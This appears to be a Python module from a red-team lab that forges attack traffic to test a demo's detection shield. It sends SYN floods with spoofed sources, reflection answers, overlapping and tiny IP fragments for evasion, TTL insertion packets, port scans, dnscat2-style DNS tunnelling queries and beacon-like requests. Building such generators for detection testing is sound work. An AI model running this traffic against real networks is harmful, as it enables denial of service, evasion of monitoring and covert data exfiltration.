"""Frames that no packaged tool of Debian sends as the catalogue needs them, and questions that carry data.

Run as `python -m loomidi_lab.redteam.forging KIND [NAME=VALUE]...` inside the attacker's room, as a command of the
catalogue. In: the kind and its arguments. Out: frames on `eth0` at a stated rate, for a stated time. The frames
themselves come from the demo's generator where it has them.
"""

import itertools
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from loomidi.services.demo import frames
from loomidi.services.demo.traffic import Sender, forged_sources

Frames = list[bytes]
_FRAGMENTS = 0x2000  # more of them follow
_ETHERNET = 14


def syns(source: str, target: str, port: int = 80) -> Frames:
    """SYNs from one source to one port."""
    return frames.syn_flood(source, target, port)


def forged_syns(target: str, port: int = 80) -> Frames:
    """SYNs that each claim another source of one network."""
    return frames.spoofed_syn_flood(forged_sources(), target, port, 8192)


def datagrams(source: str, target: str, port: int = 9999, size: int = 512) -> Frames:
    """UDP datagrams from one source to one port."""
    return [frames.udp(source, target, (1024 + i * 37 % 60000, port), b"U" * size) for i in range(512)]


def answers(sources: str, target: str, port: int = 53, size: int = 1300) -> Frames:
    """Answers of reflectors to questions that nobody asked, from a service's port."""
    reflectors = sources.split(",")
    ports = [(port, 40000 + i % 64) for i in range(512)]
    return [frames.udp(reflectors[i % len(reflectors)], target, ports[i], b"A" * size) for i in range(512)]


def tiny_fragments(source: str, target: str, port: int = 80) -> Frames:
    """SYNs cut after 8 octets of their TCP header, so that flags and ports lie in different packets."""
    return [piece for frame in frames.syn_flood(source, target, port, 256) for piece in cut(frame, 8)]


def overlapping_fragments(source: str, target: str, port: int = 80) -> Frames:
    """SYNs in fragments that overlap: the second one rewrites the end of the first."""
    made: Frames = []
    for frame in frames.syn_flood(source, target, port, 256):
        first, second = cut(frame, 16)
        again = frame[_ETHERNET + 20 + 8 : _ETHERNET + 20 + 20]  # from octet 8 on, although 8 to 16 were sent
        made += [first, _wrapped(second, again, 8 // 8)]
    return made


def small_ttl(source: str, target: str, port: int = 80) -> Frames:
    """SYNs that reach the host with the shield and die before the service (insertion)."""
    return [with_ttl(frame, 1 + i % 2) for i, frame in enumerate(frames.syn_flood(source, target, port))]


def scan_down(source: str, target: str) -> Frames:
    """A SYN to each of 600 ports of a host."""
    return frames.vertical_scan(source, target, range(1, 601))


def scan_across(source: str, network: str) -> Frames:
    """A SYN to the same port of each host of a network."""
    return frames.horizontal_scan(source, network)


def cut(frame: bytes, octets: int) -> tuple[bytes, bytes]:
    """An IPv4 frame as two fragments; `octets` of the payload, a multiple of 8, go into the first."""
    payload = frame[_ETHERNET + 20 :]
    number = (random.randrange(1 << 16),)
    whole = frame[: _ETHERNET + 4] + struct.pack("!H", *number) + frame[_ETHERNET + 6 :]
    return (
        _wrapped(whole, payload[:octets], _FRAGMENTS),
        _wrapped(whole, payload[octets:], octets // 8),
    )


def with_ttl(frame: bytes, ttl: int) -> bytes:
    """The same IPv4 frame with another time to live."""
    header = frame[_ETHERNET : _ETHERNET + 8] + bytes([ttl]) + frame[_ETHERNET + 9 : _ETHERNET + 20]
    return frame[:_ETHERNET] + _summed(header) + frame[_ETHERNET + 20 :]


def _wrapped(frame: bytes, payload: bytes, offset_and_flags: int) -> bytes:
    """The frame's IPv4 header around another payload, as a fragment."""
    header = bytearray(frame[_ETHERNET : _ETHERNET + 20])
    header[2:4] = struct.pack("!H", 20 + len(payload))
    header[6:8] = struct.pack("!H", offset_and_flags)
    return frame[:_ETHERNET] + _summed(bytes(header)) + payload


def _summed(header: bytes) -> bytes:
    bare = header[:10] + b"\0\0" + header[12:]
    total = sum(struct.unpack("!10H", bare))
    total = (total & 0xFFFF) + (total >> 16)
    return bare[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + bare[12:]


def forged_questions(source: str, target: str) -> Frames:
    """DNS questions whose names carry data, in the name of somebody else."""
    return [frames.udp(source, target, (20_000 + i, 53), _question(i)) for i in range(512)]


KINDS: dict[str, Callable[..., Frames]] = {
    "syns": syns,
    "forged_syns": forged_syns,
    "datagrams": datagrams,
    "answers": answers,
    "tiny_fragments": tiny_fragments,
    "overlapping_fragments": overlapping_fragments,
    "small_ttl": small_ttl,
    "scan_down": scan_down,
    "scan_across": scan_across,
    "forged_questions": forged_questions,
}


def questions(source: str, target: str, seconds: float, pps: float) -> int:
    """DNS questions whose names carry data, as dnscat2 asks them; returns how many went out."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.bind((source, 0))
        end = time.monotonic() + seconds
        for number in itertools.count(1):
            if time.monotonic() >= end:
                return number - 1
            there.sendto(_question(number), (target, 53))
            time.sleep(1 / pps)
    return 0


def _question(number: int) -> bytes:
    labels: Iterator[bytes] = (random.randbytes(28).hex().encode() for _ in range(3))
    told = b"".join(bytes([len(label)]) + label for label in (*labels, b"shop", b"example")) + b"\0"
    return struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + told + struct.pack("!HH", 16, 1)


def posts(source: str, target: str, every_s: float, seconds: float) -> None:
    """One small web request again and again at a steady beat, as an implant that waits for orders."""
    from loomidi_lab.redteam.crowd import page

    end = time.monotonic() + seconds
    for number in itertools.count(1):
        page(source, target, number)
        if time.monotonic() + every_s >= end:
            return
        time.sleep(every_s)


def main(kind: str, given: dict[str, str]) -> None:
    """Send one kind of frames round and round: `seconds` and `pps` besides its own arguments."""
    numbers = {name: float(given.pop(name)) for name in ("seconds", "pps", "every_s") if name in given}
    if kind == "questions":
        questions(given["source"], given["target"], numbers["seconds"], numbers["pps"])
    elif kind == "posts":
        posts(given["source"], given["target"], numbers["every_s"], numbers["seconds"])
    else:
        words = {name: int(value) if name in ("port", "size") else value for name, value in given.items()}
        sender = Sender("eth0")
        once = kind.startswith("scan_")
        sender.send(KINDS[kind](**words), numbers.get("seconds", 2.0), int(numbers.get("pps", 10_000)), once=once)
        sender.close()


if __name__ == "__main__":
    main(sys.argv[1], dict(word.split("=", 1) for word in sys.argv[2:]))
